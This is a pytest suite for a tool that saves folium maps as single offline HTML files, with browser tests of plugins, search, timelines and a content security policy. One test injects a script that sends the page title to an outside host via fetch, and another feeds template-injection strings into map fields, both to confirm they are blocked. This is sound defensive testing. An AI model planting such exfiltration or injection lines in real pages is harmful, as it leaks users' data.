"""Any folium map as one file: every plugin at work in a real browser, without a network."""

import json
import re

import folium
import pytest
from folium import plugins
from folium.raster_layers import ImageOverlay

from zjk_gis.errors import FileError, InputError
from zjk_gis.maps import base_map, city_map, offline_frame, save_offline
from zjk_gis.maps.offline.saving import whole_page

HERE = (40.82, 114.88)
DAYS = ("2025-01-01", "2025-01-02", "2025-01-03")
SHAPES = "[...document.querySelectorAll('.leaflet-overlay-pane path')]"
POINTS = [[40.80 + 0.002 * i, 114.86 + 0.003 * (i % 7)] for i in range(60)]
DOT = "data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=="


def empty_map(**options):
    return folium.Map(HERE, zoom_start=13, tiles=None, **options)


def zones():
    """Three areas side by side, each of one day, with codes and Chinese names."""
    features = []
    for i, day in enumerate(DAYS):
        west = 114.86 + 0.012 * i
        ring = [[west, 40.81], [west + 0.01, 40.81], [west + 0.01, 40.83], [west, 40.83], [west, 40.81]]
        features.append(
            {
                "type": "Feature",
                "id": str(i),
                "properties": {
                    "编号": f"Z{i:03d}",
                    "名称": f"明德北街{'一二三'[i]}号",
                    "times": [day] * len(ring),
                    "start": day,
                    "end": f"2025-01-0{i + 2}",
                },
                "geometry": {"type": "Polygon", "coordinates": [ring]},
            }
        )
    return {"type": "FeatureCollection", "features": features}


@pytest.fixture
def show(visit, tmp_path):
    """Save a map, open it, and after the test hold that nothing went wrong and nothing was asked for."""
    opened = []

    def save_and_open(page, **options):
        name = getattr(page, "m1", page).get_name()
        seen = visit(save_offline(page, tmp_path / "map.html"), ready=f"window.{name}", **options)
        seen.rest(300)
        opened.append(seen)
        return seen

    yield save_and_open
    for seen in opened:
        assert (seen.errors, seen.requests, seen.dialogs) == ([], [], [])


def layers(seen, page):
    return seen.page.evaluate(f"() => Object.keys({page.get_name()}._layers).length")


@pytest.mark.browser
class TestMarksAndControls:
    def test_marks_have_their_pictures_and_icons(self, show):
        page = empty_map()
        folium.Marker(HERE, popup="这里", tooltip="提示").add_to(page)
        folium.Marker((40.82, 114.89), icon=folium.Icon("red", icon="home", prefix="fa")).add_to(page)
        folium.Marker((40.82, 114.90), icon=folium.Icon("green")).add_to(page)
        seen = show(page)
        pictures = seen.page.evaluate(
            "() => [...document.images].map(i => [i.src.slice(0, 5), i.naturalWidth > 0])"
        )
        assert pictures
        assert {tuple(each) for each in pictures} == {("data:", True)}
        for font in ('900 14px "Font Awesome 6 Free"', "14px 'Glyphicons Halflings'"):
            assert seen.page.evaluate("async f => (await document.fonts.load(f)).length", font) == 1
        seen.page.locator(".leaflet-marker-icon").first.click()
        assert "这里" in seen.page.inner_text(".leaflet-popup")

    def test_layers_of_groups_come_and_go(self, show):
        page = empty_map()
        first, second = folium.FeatureGroup("责任区").add_to(page), folium.FeatureGroup("案件").add_to(page)
        folium.Circle(HERE, 300).add_to(first)
        folium.Circle(HERE, 900).add_to(second)
        plugins.GroupedLayerControl(
            {"专题": [first, second]}, exclusive_groups=False, collapsed=False
        ).add_to(page)
        seen = show(page)
        assert "专题" in seen.page.inner_text(".leaflet-control-layers")
        before = layers(seen, page)
        seen.page.get_by_text("案件").click()
        assert layers(seen, page) == before - 2

    def test_the_layer_control_unfolds(self, show):
        page = empty_map()
        base_map("none").add_to(page)
        folium.FeatureGroup("责任区").add_to(page)
        folium.LayerControl().add_to(page)
        seen = show(page)
        place = seen.page.locator(".leaflet-control-layers-toggle").bounding_box()
        seen.page.mouse.move(place["x"] + 10, place["y"] + 10)
        assert "责任区" in seen.page.inner_text(".leaflet-control-layers-list")

    @pytest.mark.parametrize("kind", [plugins.MarkerCluster, plugins.FastMarkerCluster])
    def test_clusters_count_and_open(self, show, kind):
        page = empty_map()
        kind(POINTS).add_to(page)
        seen = show(page)
        counts = [int(text) for text in seen.page.locator(".marker-cluster").all_inner_texts()]
        single = seen.page.locator(".awesome-marker-icon-blue, img.leaflet-marker-icon").count()
        assert counts
        assert 40 < sum(counts) + single <= 60  # those beyond the screen are not drawn
        seen.page.locator(".marker-cluster").first.dispatch_event("click")
        seen.page.wait_for_function(f"() => {page.get_name()}.getZoom() > 13")

    def test_a_heat_map_is_hot(self, show):
        page = empty_map()
        plugins.HeatMap(POINTS).add_to(page)
        seen = show(page)
        painted = seen.page.evaluate(
            "() => { const c = document.querySelector('canvas.leaflet-heatmap-layer'); "
            "const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data; "
            "return d.filter((v, i) => i % 4 === 3 && v > 0).length; }"
        )
        assert painted > 1000
        seen.errors[:] = [
            text for text in seen.errors if "willReadFrequently" not in text
        ]  # this test reads it

    def test_a_distance_is_measured(self, show):
        page = empty_map()
        plugins.MeasureControl(primary_length_unit="meters").add_to(page)
        seen = show(page)
        seen.page.hover(".leaflet-control-measure")
        seen.page.click(".leaflet-control-measure .js-start")
        for x in (500, 700):
            seen.page.mouse.click(x, 500)
            seen.rest(400)  # two clicks in quick succession would end the line
        told = seen.page.inner_text(".leaflet-control-measure .results")
        metres = float(re.search(r"([\d,.]+) Meters", told)[1].replace(",", ""))
        expected = seen.page.evaluate(
            f"() => {{ const m = {page.get_name()}; "
            "return m.distance(m.containerPointToLatLng([500, 500]), m.containerPointToLatLng([700, 500])); }"
        )
        assert metres == pytest.approx(expected, rel=0.01)

    def test_the_map_fills_the_screen_and_the_mouse_tells_where_it_is(self, show):
        page = empty_map()
        plugins.Fullscreen().add_to(page)
        plugins.MousePosition().add_to(page)
        seen = show(page)
        seen.page.mouse.move(600, 400)
        lat, lon = (float(v) for v in seen.page.inner_text(".leaflet-control-mouseposition").split(" : "))
        assert (lat, lon) == pytest.approx(HERE, abs=1e-3)
        seen.page.click(".leaflet-control-zoom-fullscreen")
        seen.page.wait_for_function("() => document.fullscreenElement !== null")

    def test_a_mini_map_folds(self, show):
        page = empty_map()
        plugins.MiniMap(folium.TileLayer(DOT, attr="-"), toggle_display=True).add_to(page)
        seen = show(page)
        wide = seen.page.locator(".leaflet-control-minimap").bounding_box()["width"]
        seen.page.click(".leaflet-control-minimap-toggle-display")
        seen.page.wait_for_function(
            f"() => document.querySelector('.leaflet-control-minimap').clientWidth < {wide / 2}"
        )

    def test_something_is_drawn_by_hand(self, show):
        page = empty_map()
        plugins.Draw(export=True).add_to(page)
        seen = show(page)
        before = layers(seen, page)
        seen.page.click(".leaflet-draw-draw-circlemarker")
        seen.page.mouse.click(600, 400)
        assert layers(seen, page) > before


@pytest.mark.browser
class TestTime:
    def test_a_slider_of_marks_plays(self, show):
        page = empty_map()
        plugins.TimestampedGeoJson(
            zones(), period="P1D", duration="P1D", auto_play=False, transition_time=200
        ).add_to(page)
        seen = show(page)
        time = seen.page.locator(".timecontrol-date")
        assert "2025-01-01" in time.inner_text()
        seen.page.click(".timecontrol-play")
        seen.page.wait_for_function(
            "() => document.querySelector('.timecontrol-date').innerText.includes('2025-01-03')"
        )

    def test_a_slider_of_colours_changes_them(self, show):
        colours = {
            str(i): {
                str(1735689600 + 86400 * k): {"color": "#ff0000" if k else "#0000ff", "opacity": 0.7}
                for k in range(2)
            }
            for i in range(3)
        }
        page = empty_map()
        plugins.TimeSliderChoropleth(zones(), styledict=colours).add_to(page)
        seen = show(page)
        fills = f"() => {SHAPES}.map(p => getComputedStyle(p).fill)"
        seen.page.wait_for_function(f"() => new Set(({fills})()).has('rgb(0, 0, 255)')")
        seen.page.evaluate(
            "() => { const s = document.querySelector('input[type=range]'); "
            "s.value = s.max; s.dispatchEvent(new Event('input')); }"
        )
        seen.page.wait_for_function(f"() => ({fills})().every(fill => fill === 'rgb(255, 0, 0)')")

    def test_a_timeline_plays(self, show):
        page = empty_map()
        line = plugins.Timeline(zones()).add_to(page)
        plugins.TimelineSlider(auto_play=False, playback_duration=1500).add_timelines(line).add_to(page)
        seen = show(page)
        places = f"() => {SHAPES}.map(p => p.getAttribute('d')).join()"
        before = seen.page.evaluate(places)
        seen.page.click(".leaflet-timeline-control button.play")
        seen.page.wait_for_function(f"before => ({places})() !== before", arg=before)


@pytest.mark.browser
class TestSearching:
    @pytest.mark.parametrize(
        ("column", "text", "whole"), [("编号", "Z00", "Z002"), ("名称", "明德", "明德北街三号")]
    )
    def test_codes_and_chinese_names_are_found(self, show, column, text, whole):
        page = empty_map()
        areas = folium.GeoJson(zones()).add_to(page)
        plugins.Search(
            areas, search_label=column, geom_type="Polygon", collapsed=False, search_zoom=16
        ).add_to(page)
        seen = show(page)
        seen.page.click("input.search-input")
        seen.page.keyboard.type(text)
        seen.page.wait_for_selector(".search-tip")
        tips = [tip.strip() for tip in seen.page.locator(".search-tip").all_inner_texts()]
        assert len(tips) == 3
        assert whole in tips
        seen.page.fill("input.search-input", whole)
        seen.page.keyboard.press("Enter")
        seen.page.wait_for_function(f"() => {page.get_name()}.getZoom() === 16")
        assert seen.page.evaluate(f"() => {page.get_name()}.getCenter().lng") == pytest.approx(
            114.889, abs=1e-3
        )


@pytest.mark.browser
class TestTwoMaps:
    def test_side_by_side_they_move_together(self, show):
        page = plugins.DualMap(HERE, tiles=None, zoom_start=13)
        folium.Marker(HERE).add_to(page)
        folium.Circle(HERE, 500).add_to(page.m1)
        seen = show(page)
        seen.page.evaluate(
            f"() => {{ {page.m1.get_name()}.setView([40.9, 114.9], 12, {{ animate: false }}); }}"
        )
        seen.rest(300)
        other = seen.page.evaluate(f"() => {page.m2.get_name()}.getCenter()")
        assert (other["lat"], other["lng"]) == pytest.approx((40.9, 114.9), abs=1e-3)
        assert seen.page.locator("img.leaflet-marker-icon").count() == 2

    def test_a_swipe_shows_more_of_one(self, show):
        page = empty_map()
        left, right = (
            base_map("none", name="变更前").add_to(page),
            base_map("none", name="变更后").add_to(page),
        )
        plugins.SideBySideLayers(left, right).add_to(page)
        seen = show(page)
        clips = f"() => [{left.get_name()}, {right.get_name()}].map(l => l.getContainer().style.clip)"
        before = seen.page.evaluate(clips)
        seen.page.evaluate(
            "() => { const s = document.querySelector('.leaflet-sbs-range'); s.value = 0.2; "
            "s.dispatchEvent(new Event('input')); s.dispatchEvent(new Event('change')); }"
        )
        after = seen.page.evaluate(clips)
        assert all(before)
        assert before != after


@pytest.mark.browser
class TestNotebooks:
    def test_the_frame_shows_the_map_and_reaches_nothing(self, visit, tmp_path):
        page = empty_map()
        folium.Marker(HERE).add_to(page)
        path = tmp_path / "notebook.html"
        path.write_text(
            "<!DOCTYPE html><body><script>window.secret = 1</script>" + offline_frame(page)._repr_html_(),
            "utf-8",
        )
        seen = visit(path, ready="document.querySelector('iframe')")
        seen.page.frame_locator("iframe").locator("img.leaflet-marker-icon").wait_for()
        frame = seen.page.frames[1]
        assert frame.locator("img.leaflet-marker-icon").count() == 1
        assert (
            frame.evaluate("() => { try { return parent.secret; } catch (error) { return error.name; } }")
            == "SecurityError"
        )
        assert (seen.errors, seen.requests) == ([], [])

    def test_a_height_is_asked_for(self):
        assert "height:300px" in offline_frame(city_map({}), height=300)._repr_html_()
        with pytest.raises(InputError, match="height"):
            offline_frame(city_map({}), height=0)


@pytest.mark.browser
class TestThePolicy:
    def test_a_script_that_would_send_the_data_away_cannot(self, visit, tmp_path):
        page = empty_map()
        page.get_root().script.add_child(
            folium.Element("fetch('https://example.org/?' + document.title).catch(() => 0);")
        )
        seen = visit(save_offline(page, tmp_path / "map.html"), ready=f"window.{page.get_name()}")
        seen.rest(300)
        assert seen.requests == []
        assert any("Content Security Policy" in text for text in seen.errors)


def with_child(child):
    page = empty_map()
    page.add_child(child)
    return page


def with_icon(**options):
    page = empty_map()
    folium.Marker(HERE, icon=folium.Icon(**options)).add_to(page)
    return page


def with_popup(text):
    page = empty_map()
    folium.Marker(HERE, popup=text).add_to(page)
    return page


class TestWhatIsNotAtHand:
    @pytest.mark.parametrize(
        ("make", "words"),
        [
            (folium.Map, "tiles=None"),
            (lambda: with_child(folium.FeatureGroup().add_child(folium.TileLayer())), "base map of tiles"),
            (lambda: with_child(plugins.MiniMap()), "base map of tiles"),
            (lambda: plugins.DualMap(HERE), "base map of tiles"),
            (lambda: with_child(folium.WmsTileLayer("http://a/wms", "roads")), "WmsTileLayer, which fetches"),
            (lambda: with_child(plugins.Geocoder()), "Geocoder, which asks a search server"),
            (lambda: with_child(plugins.LocateControl()), "LocateControl, which asks the browser"),
            (lambda: with_child(plugins.Realtime("http://a/b.json")), "Realtime, which fetches"),
            (lambda: with_child(plugins.FloatImage("https://a/logo.png")), "a/logo.png is not in the page"),
            (
                lambda: with_child(ImageOverlay("https://a/b.png", [[40, 114], [41, 115]])),
                "https://a/b.png is not in the page",
            ),
            (
                lambda: with_child(folium.Marker(HERE, icon=folium.CustomIcon("https://a/i.png"))),
                "a/i.png is not in the page",
            ),
            (lambda: with_popup("<img src='https://a/photo.jpg'>"), "<img> https://a/photo.jpg"),
            (lambda: with_popup('<IMG alt=x SRC="photo.jpg">'), "<img> photo.jpg"),
            (
                lambda: with_popup(folium.Popup(folium.IFrame('<img src="https://a/b.jpg">', 9, 9))), "<img> https://a/b.jpg"
            ),
            (lambda: with_icon(icon="github", prefix="fa-brands"), "icon .* of the font .*fa-brands-400"),
            (lambda: with_icon(icon="fa-regular fa-bell", prefix="fa"), "of the font .*fa-regular-400"),
        ],
    )  # fmt: skip
    def test_it_is_named(self, tmp_path, make, words):
        with pytest.raises(InputError, match=words):
            save_offline(make(), tmp_path / "map.html")
        assert not (tmp_path / "map.html").exists()

    @pytest.mark.parametrize(
        "make",
        [
            lambda: with_popup(f"<img src='{DOT}'>"),
            lambda: with_popup('<a href="https://example.org/">more</a>'),
            lambda: with_icon(icon="home", prefix="fa"),
        ],
    )
    def test_what_is_inside_or_only_linked_is_not_refused(self, make):
        assert whole_page(make()).startswith("<!DOCTYPE html>")

    @pytest.mark.parametrize("text", ["{{7*7}}", "{% raw %}", "{# gone #}"])
    def test_text_that_folium_would_run_is_refused(self, text):
        data = zones()
        data["features"][1]["properties"]["名称"] = f"明德北街{text}"
        for page in (
            with_child(folium.GeoJson(data)),
            with_child(folium.FeatureGroup(text)),
            with_popup(text),
            with_child(folium.Marker(HERE, tooltip=text)),
        ):
            with pytest.raises(InputError, match="which folium would run as a template"):
                whole_page(page)

    def test_data_beside_the_page_is_not_in_it(self, tmp_path):
        (tmp_path / "zones.json").write_text(json.dumps(zones()), "utf-8")
        with pytest.raises(InputError, match=r"zones\.json is not in the page"):
            whole_page(with_child(folium.GeoJson(str(tmp_path / "zones.json"), embed=False)))

    def test_no_map_is_no_map(self):
        with pytest.raises(InputError, match="must be a folium map"):
            whole_page(folium.Marker(HERE))

    def test_files_of_the_caller_stand_in(self, tmp_path):
        page = empty_map()
        page.get_root().header.add_child(folium.JavascriptLink("https://example.org/own.js"))
        page.get_root().header.add_child(folium.CssLink("https://example.org/css/own.css"))
        (tmp_path / "own.js").write_text("window.own = '</script>';", "utf-8")
        (tmp_path / "own.css").write_text(".a { background: url(../a.png) }", "utf-8")
        (tmp_path / "a.png").write_bytes(b"\x89PNG")
        files = {
            "https://example.org/own.js": tmp_path / "own.js",
            "https://example.org/css/own.css": tmp_path / "own.css",
        }
        with pytest.raises(InputError, match=r"needs https://example\.org/a\.png"):
            whole_page(page, assets=files)
        text = whole_page(page, assets=files | {"https://example.org/a.png": tmp_path / "a.png"})
        assert r"window.own = '<\/script>'" in text
        assert '.a { background: url("data:image/png;base64,iVBORw==") }' in text
        with pytest.raises(FileError, match=r"no\.js"):
            whole_page(page, assets={"https://example.org/own.js": tmp_path / "no.js"})

    def test_a_font_of_the_caller_makes_its_icons_possible(self, tmp_path):
        page = with_icon(icon="github", prefix="fa-brands")
        with pytest.raises(InputError, match="fa-brands") as refused:
            whole_page(page)
        url = re.search(r"https://\S+\.woff2", str(refused.value))[0]
        (tmp_path / "brands.woff2").write_bytes(b"wOF2")
        assert "data:font/woff2;base64,d09GMg==" in whole_page(page, assets={url: tmp_path / "brands.woff2"})


class TestThePage:
    def test_the_map_given_stays_as_it_was(self):
        page = with_icon()
        before = dict(page.options)
        whole_page(page)
        whole_page(page)
        assert page.options == before
        assert "<script src=" in page.get_root().render()

    def test_a_small_map_is_small(self):
        assert len(whole_page(city_map({}))) < 330_000
        assert len(whole_page(with_icon())) < 1_300_000

    def test_a_font_is_there_once(self):
        text = whole_page(with_icon())
        assert len(re.findall(r"@font-face", text)) == 2
